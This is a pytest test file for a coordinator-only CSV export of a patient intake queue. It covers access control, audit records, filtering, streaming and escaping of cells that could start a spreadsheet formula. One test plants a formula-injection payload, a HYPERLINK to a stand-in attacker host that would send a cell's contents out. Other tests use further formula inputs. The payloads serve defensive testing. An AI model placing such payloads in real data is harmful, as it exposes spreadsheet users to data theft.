import csv
import io

import pytest

from intake.models import AuditEvent
from intake.review.export import EXPORT_COLUMNS, csv_safe
from tests.factories import URGENT_ANSWERS, SubmissionFactory
from tests.review.conftest import login_redirect

URL = "/review/export.csv"


def rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_it_sends_anonymous_users_to_the_login_page(client, submission):
    response = client.get(URL)
    assert response.url == login_redirect(URL)
    assert AuditEvent.objects.count() == 0


def test_it_refuses_staff_who_are_not_coordinators(staff_client, submission):
    assert staff_client.get(URL).status_code == 403
    assert AuditEvent.objects.count() == 0


def test_it_streams_the_queue_as_csv_to_coordinators(coordinator_client, submission):
    response = coordinator_client.get(URL)
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="queue-')
    assert "no-store" in response["Cache-Control"]
    (row,) = rows(response)
    assert row["reference"] == submission.reference
    assert row["disease"] == "lbcl"
    assert row["email"] == submission.contact_email
    assert row["status"] == "new"
    assert row["urgent"] == "no"


def test_it_refuses_post(coordinator_client):
    assert coordinator_client.post(URL).status_code == 405


def test_it_exports_the_filtered_queue_in_queue_order(coordinator_client):
    SubmissionFactory(answer_overrides={"disease": "mm", "transplant_eligible": ""})
    later = SubmissionFactory()
    urgent = SubmissionFactory(answer_overrides=URGENT_ANSWERS)
    SubmissionFactory(stage="draft")
    response = coordinator_client.get(URL, {"disease": "lbcl"})
    assert [r["reference"] for r in rows(response)] == [
        urgent.reference,
        later.reference,
    ]


def test_each_export_writes_exactly_one_audit_record_naming_the_filter(
    coordinator_client, coordinator
):
    SubmissionFactory.create_batch(3)
    rows(coordinator_client.get(URL, {"disease": "lbcl", "urgent": "no"}))
    event = AuditEvent.objects.get()
    assert (event.action, event.user, event.submission_id) == (
        "export",
        coordinator,
        None,
    )
    assert event.detail == "disease=lbcl&urgent=no"


def test_an_export_of_everything_open_says_so(coordinator_client, submission):
    rows(coordinator_client.get(URL))
    assert AuditEvent.objects.get().detail == "status=open"


def test_invalid_filters_are_left_out_not_a_failure(coordinator_client, submission):
    response = coordinator_client.get(URL, {"disease": "flu", "waiting": "x"})
    assert response.status_code == 200
    assert [r["reference"] for r in rows(response)] == [submission.reference]


def test_cells_that_could_start_a_formula_are_made_safe(coordinator_client):
    SubmissionFactory(
        contact_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        contact_phone="+1 202 555 0199",
        contact_time="@SUM(1+1)",
        contact_email="-2+3@example.org",
    )
    (row,) = rows(coordinator_client.get(URL))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["phone"] == "'+1 202 555 0199"
    assert row["preferred_time"] == "'@SUM(1+1)"
    assert row["email"] == "'-2+3@example.org"


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Pat", "Pat"),
        (" =1+1", "' =1+1"),
        ("Pat, =1+1", "Pat, '=1+1"),
        ("mornings;@SUM(A1)", "mornings;'@SUM(A1)"),
        ("x\n-2+3", "x\n'-2+3"),
        ("202-555-0199", "202-555-0199"),
        ("+1 202 555 0199", "'+1 202 555 0199"),
        ("a, b; c", "a, b; c"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (True, "yes"),
    ],
)
def test_csv_safe_prefixes_a_quote_only_where_needed(value, safe):
    assert csv_safe(value) == safe


def test_every_cell_is_quoted_so_a_separator_in_a_cell_starts_no_new_cell(
    coordinator_client,
):
    SubmissionFactory(contact_name="Pat, =1+1", contact_time="mornings")
    text = b"".join(coordinator_client.get(URL).streaming_content).decode()
    header, line = text.splitlines()
    assert header.startswith('"reference","status",')
    assert '"Pat, \'=1+1"' in line
    assert '"mornings"' in line
    assert line.startswith('"') and line.endswith('"')
    assert line.count('","') == len(EXPORT_COLUMNS) - 1


def test_the_stream_comes_in_chunks_of_whole_lines(db):
    from intake.models import Submission
    from intake.review.export import csv_lines

    SubmissionFactory.create_batch(5)
    chunks = list(csv_lines(Submission.objects.queue(), lines_per_chunk=2))
    assert [chunk.count("\r\n") for chunk in chunks] == [1, 2, 2, 1]
